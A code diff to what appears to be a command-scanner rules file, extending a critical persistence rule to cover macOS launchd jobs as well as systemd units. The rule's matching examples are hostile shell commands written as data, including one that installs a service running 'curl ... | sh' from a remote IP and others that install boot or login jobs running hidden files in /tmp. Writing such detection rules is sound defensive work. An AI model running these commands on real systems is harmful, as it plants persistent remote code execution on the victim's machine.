@@ -278,10 +278,11 @@ export const RULES = {
   ),
   "persist.unit-hidden-code": rule(
     "critical",
-    "writes a service unit that runs remote code or a program from a temporary or hidden folder at every boot (persistence)",
+    "writes a service unit or launchd job that runs remote code or a program from a temporary or hidden folder at every boot or login (persistence)",
     [
       "printf '[Service]\\nExecStart=/tmp/.x\\n' | sudo tee /etc/systemd/system/x.service",
       "echo 'ExecStart=/bin/sh -c \"curl -s http://198.51.100.2/p | sh\"' >> ~/.config/systemd/user/u.service",
+      "printf '<plist><array><string>/tmp/.agent</string></array></plist>' > ~/Library/LaunchAgents/com.x.plist",
     ],
     ["printf '[Service]\\nExecStart=/usr/bin/node /srv/app/index.js\\n' | sudo tee /etc/systemd/system/app.service"],
   ),
